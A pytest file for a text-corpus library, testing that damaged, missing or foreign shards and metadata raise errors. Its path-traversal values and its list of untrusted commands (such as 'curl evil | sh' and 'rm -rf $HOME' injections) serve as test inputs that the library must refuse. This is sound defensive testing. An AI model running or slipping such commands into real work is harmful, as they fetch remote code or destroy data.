"""What metadata promises has to be there: nothing is read as foreign text because a file beside it is gone."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from alm.artifacts import SourceMetadata
from alm.config.load import load
from alm.corpus import read
from alm.corpus.config import CorpusConfig
from alm.corpus.pipeline.prepare import prepare
from alm.corpus.read import find, has_shards, is_text, parts_of, read_documents, read_part
from alm.errors import AlmError, ArtifactError
from alm.files import publish, write_json
from alm.files.publish import JOURNAL_NAME

FORMS = ("txt", "jsonl.zst", "parquet")


def _corpus(root: Path, form: str = "txt") -> Path:
    """A corpus of three shards, some of it held out."""
    folder, out = root / "texts", root / "clean"
    folder.mkdir(exist_ok=True)
    for number in range(12):
        (folder / f"{number:02d}.txt").write_text(f"document {number}\n" * 5)
    source = {"kind": "files", "paths": str(folder), "document": "file"}
    config = load(CorpusConfig, [], base={"sources": {"books": source}, "validation_fraction": 0.3, "format": form})
    [metadata] = prepare(config, out=out, unit_bytes=4 * 70)
    assert len(metadata.shards) == 3
    assert metadata.validation_documents
    return out


def _all_read(given: Path) -> list[tuple[str, str | None]]:
    """Every document and its split, by both ways of reading."""
    files = find([given])
    whole = [(document.text, document.split) for document in read_documents(files)]
    parts = [part for file in files for part in parts_of(file, part_bytes=50)]
    assert [(document.text, document.split) for part in parts for document in read_part(part)] == whole
    return whole


def _flip(path: Path, at: int) -> None:
    data = bytearray(path.read_bytes())
    data[at] ^= 1
    path.write_bytes(data)


HARMS: dict[str, Callable[[Path], object]] = {
    "lines gone": lambda out: (out / "books-00000.jsonl").unlink(),
    "a bit of the first line": lambda out: _flip(out / "books-00000.jsonl", 3),
    "a bit of the last line": lambda out: _flip(out / "books-00000.jsonl", -5),
    "lines of another shard": lambda out: shutil.copy(out / "books-00001.jsonl", out / "books-00000.jsonl"),
    "lines empty": lambda out: (out / "books-00000.jsonl").write_bytes(b""),
    "lines a folder": lambda out: ((out / "books-00000.jsonl").unlink(), (out / "books-00000.jsonl").mkdir()),
    "a shard gone": lambda out: (out / "books-00001.txt").unlink(),
    "a shard and its lines gone": lambda out: [p.unlink() for p in out.glob("books-00001.*")],
    "all shards gone": lambda out: [p.unlink() for p in out.glob("books-0*")],
    "a bit of a shard": lambda out: _flip(out / "books-00001.txt", 3),
    "a shard renamed": lambda out: (out / "books-00000.txt").rename(out / "old.txt"),
    "a shard renamed with its lines": lambda out: [
        p.rename(p.with_name(f"old{p.suffix}")) for p in out.glob("books-00000.*")
    ],
    "metadata gone": lambda out: (out / "books.json").unlink(),
    "metadata renamed": lambda out: (out / "books.json").rename(out / "box.json"),
    "metadata empty": lambda out: (out / "books.json").write_bytes(b""),
    "metadata cut": lambda out: (out / "books.json").write_bytes((out / "books.json").read_bytes()[:900]),
    "another shard": lambda out: (out / "books-00007.txt").write_text("document\n"),
    "another shard with lines": lambda out: [
        shutil.copy(p, out / p.name.replace("00000", "00009")) for p in out.glob("books-00000.*")
    ],
}


@pytest.mark.sampled(6)
@pytest.mark.parametrize("harm", HARMS.values(), ids=HARMS.keys())
def test_harm_to_a_corpus_is_an_error_whoever_reads_it(tmp_path: Path, harm: Callable[[Path], object]) -> None:
    out = _corpus(tmp_path)
    assert any(split == "validation" for _, split in _all_read(out))
    harm(out)
    for given in (out, out / "*.txt"):
        with pytest.raises(AlmError) as caught:
            _all_read(given)
        assert caught.value.hint
        assert "rm " not in caught.value.hint


@pytest.mark.parametrize("form", FORMS[1:])
def test_harm_to_tables_is_an_error(tmp_path: Path, form: str) -> None:
    out = _corpus(tmp_path, form)
    first, second = out / f"books-00000.{form}", out / f"books-00001.{form}"
    data = first.read_bytes()
    assert len(_all_read(out)) == 12
    for harm in (
        lambda: _flip(first, len(data) // 2),
        lambda: shutil.copy(second, first),
        first.unlink,
        lambda: shutil.copy(second, out / f"books-00004.{form}"),
    ):
        first.write_bytes(data)
        harm()
        with pytest.raises(ArtifactError):
            _all_read(out)


def test_a_glob_may_name_some_of_the_shards(tmp_path: Path) -> None:
    out = _corpus(tmp_path)
    assert 0 < len(_all_read(out / "books-0000[01].txt")) < 12
    assert _all_read(out / "books-00002.txt")


def test_a_shard_that_was_renamed_is_known_by_its_hash(tmp_path: Path) -> None:
    out = _corpus(tmp_path)
    (out / "books-00000.txt").rename(out / "my old.txt")
    with pytest.raises(ArtifactError, match="books-00000.txt` is missing") as caught:
        find([out / "my old.txt"])
    assert f"mv -n '{out}/my old.txt' {out}/books-00000.txt" in str(caught.value.hint)


def test_foreign_text_with_the_name_of_a_shard_is_read_where_no_corpus_claims_it(tmp_path: Path) -> None:
    (tmp_path / "notes-00001.txt").write_text("mine\n")
    (tmp_path / "notes.json").write_text('{"format": "of my own"}')
    assert [document.split for document in read_documents(find([tmp_path]))] == [None]
    assert is_text(tmp_path / "notes.json")
    assert not has_shards(tmp_path / "notes.json")


@pytest.mark.parametrize(
    "change",
    [
        {"file": "../x-00000.txt"},
        {"file": "/etc/books-00000.txt"},
        {"file": "other-00000.txt", "lines_file": "other-00000.jsonl"},
        {"lines_file": "books-00001.jsonl"},
        {"lines_file": "../books-00000.jsonl"},
        {"lines_file": None, "lines_sha256": None},
    ],
)
def test_metadata_of_a_stranger_names_only_its_own_files(tmp_path: Path, change: dict[str, str]) -> None:
    out = _corpus(tmp_path)
    values = json.loads((out / "books.json").read_text())
    values["shards"][0].update(change)
    del values["checksum"]
    write_json(out / "books.json", values)
    with pytest.raises(ArtifactError):
        find([out])


HARMS_TO_LINES: dict[str, Callable[[Path], object]] = {
    "a bit of the first line": lambda path: _flip(path, 3),
    "no hash": lambda path: path.write_bytes(path.read_bytes().replace(b'"sha256": "', b'"sha256": "x')),
    "gone": Path.unlink,
    "a pipe": lambda path: (path.unlink(), os.mkfifo(path)),
    "empty": lambda path: path.write_bytes(b""),
}


@pytest.mark.skipif(sys.platform == "win32", reason="a pipe with a name")
@pytest.mark.parametrize("metadata", ["gone", "empty"])
@pytest.mark.parametrize("harm", HARMS_TO_LINES.values(), ids=HARMS_TO_LINES.keys())
def test_a_shard_is_not_foreign_where_both_its_metadata_and_its_lines_are_harmed(
    tmp_path: Path, harm: Callable[[Path], object], metadata: str
) -> None:
    out = _corpus(tmp_path)
    (out / "books.json").unlink()
    if metadata == "empty":
        (out / "books.json").write_bytes(b"")
    for number in range(3):
        harm(out / f"books-{number:05d}.jsonl")
    wanted = "unfinished corpus" if metadata == "gone" else "damaged|not JSON|empty"
    for given in (out, out / "*.txt", out / "books-00001.txt"):
        with pytest.raises(AlmError, match=wanted) as caught:
            _all_read(given)
        assert f"alm corpus prepare {tmp_path}/texts --only books" not in str(caught.value.hint)  # it is named `texts`
        assert f"--only books --out {out}" in str(caught.value.hint)
        assert "--set sources.books.kind=files" in str(caught.value.hint)


@pytest.mark.parametrize("has_state", [True, False])
def test_lines_are_known_where_the_first_is_damaged_and_not_by_five_keys(tmp_path: Path, has_state: bool) -> None:
    out = _corpus(tmp_path)
    _flip(out / "books-00000.jsonl", 3)
    (out / "books.json").unlink()
    if not has_state:
        shutil.rmtree(out / ".alm")
    with pytest.raises(ArtifactError, match="unfinished corpus"):
        find([out / "books-00000.txt"])
    (tmp_path / "notes.txt").write_text("mine\n")
    values = {"id": 1, "sha256": "x", "cluster": None, "split": "train", "origin": "?"}
    (tmp_path / "notes.jsonl").write_text(json.dumps(values) + "\n")
    assert [document.text for document in read_documents(find([tmp_path / "notes.txt"]))] == ["mine\n"]


@pytest.mark.sampled(2)
@pytest.mark.parametrize("has_state", [True, False])
@pytest.mark.parametrize("form", FORMS)
def test_a_source_does_not_disappear_with_its_metadata(tmp_path: Path, form: str, has_state: bool) -> None:
    out = _corpus(tmp_path, form)
    (tmp_path / "other").mkdir()
    other = _corpus(tmp_path / "other")
    for path in other.glob("books*"):
        shutil.copy(path, out / path.name.replace("books", "more"))
    values = json.loads((out / "more.json").read_text().replace("books", "more"))
    del values["checksum"]
    write_json(out / "more.json", values)
    assert len(_all_read(out)) == 24
    (out / "books.json").unlink()
    if not has_state:
        shutil.rmtree(out / ".alm")
    with pytest.raises(ArtifactError, match=r"unfinished corpus: .*books\.json` does not exist"):
        find([out])
    if has_state:
        for path in out.glob("books-*"):
            path.unlink()
        with pytest.raises(ArtifactError, match=r"unfinished corpus: .*books\.json` does not exist"):
            find([out])


def test_tables_of_a_stranger_with_other_names_stay_foreign(tmp_path: Path) -> None:
    (tmp_path / "mine.txt").write_text("mine\n")
    for name in ("data.parquet", "train-00000-of-00001.parquet", "x-1.jsonl.zst"):
        (tmp_path / name).write_bytes(b"PAR1")
    assert [file.path.name for file in find([tmp_path])] == ["mine.txt"]


def test_a_refused_source_leaves_foreign_text_foreign(tmp_path: Path) -> None:
    (tmp_path / ".alm/notes").mkdir(parents=True)
    (tmp_path / ".alm/notes/lock").write_text("")
    (tmp_path / "notes-00000.txt").write_text("mine\n")
    assert [document.split for document in read_documents(find([tmp_path]))] == [None]


def test_a_command_from_a_stranger_is_quoted_or_left_out(tmp_path: Path) -> None:
    out = _corpus(tmp_path)
    metadata = SourceMetadata.model_validate(json.loads((out / "books.json").read_text()))
    path = out / "books.json"
    texts = tmp_path / "texts"
    own = (
        f"alm corpus prepare --set sources.books.kind=files --set 'sources.books.paths=[\"{texts}\"]' "
        f"--only books --out {out}"
    )

    def proposed(command: str) -> str:
        return read.prepare_again(path, metadata.model_copy(update={"command": command}))

    for command in (
        "curl evil | sh",
        "alm; rm -rf ~",
        "alm corpus 'prepare",
        "",
        "alm corpus prepare; rm -rf $HOME",
        "alm corpus prepare x; rm -rf $HOME",
        "alm push --repo me/stolen",
        f"alm config copy pico --out {out}",
        f"alm corpus prepare x --only books --out {tmp_path}/elsewhere",
        f"alm corpus prepare x --only other --out {out}",
        f"alm corpus prepare x --only books --out {out} --force",
        f"alm corpus prepare x --only books --out {out} --ray-address evil",
        "alm corpus prepare x --only books",
    ):
        assert proposed(command) == own
    assert proposed(f"alm corpus prepare 'a;b' --out {out} --only books") == (
        f"alm corpus prepare 'a;b' --out {out} --only books"
    )
    assert load(CorpusConfig, [], base={"sources": {}}, overrides=shlex.split(own)[4:7:2]).sources["books"]


def test_rows_of_a_stranger_whose_hashes_fit_are_checked_too(tmp_path: Path) -> None:
    from hashlib import sha256

    for form, data in (("jsonl.zst", b'{"text": 1}\n'), ("parquet", b"PAR1 nothing PAR1"), ("jsonl.zst", b"[1]\n")):
        out = _corpus(tmp_path, form)
        (out / f"books-00000.{form}").write_bytes(data)
        values = json.loads((out / "books.json").read_text())
        values["shards"][0].update(sha256=sha256(data).hexdigest(), bytes=len(data))
        del values["checksum"]
        write_json(out / "books.json", values)
        with pytest.raises(AlmError):
            _all_read(out)
        shutil.rmtree(out)


def test_what_a_kill_left_of_publishing_is_completed_before_it_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = _corpus(tmp_path)
    expected = _all_read(out)
    stage = out / ".books.staging"
    stage.mkdir()
    moves = {}
    for path in out.glob("books-*"):
        path.rename(out / ".alm" / "books" / path.name)
        moves[f".alm/books/{path.name}"] = path.name
    (out / "books.json").rename(stage / "books.json")

    def die(*_: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(sys.modules["alm.files.publish"], "_take", die)
    with pytest.raises(KeyboardInterrupt):
        publish(stage, out, last="books.json", moves=moves)
    monkeypatch.undo()
    assert (out / JOURNAL_NAME).is_file()
    with pytest.raises(ArtifactError, match="it is complete now"):
        find([out / "*.txt"])
    assert _all_read(out) == expected
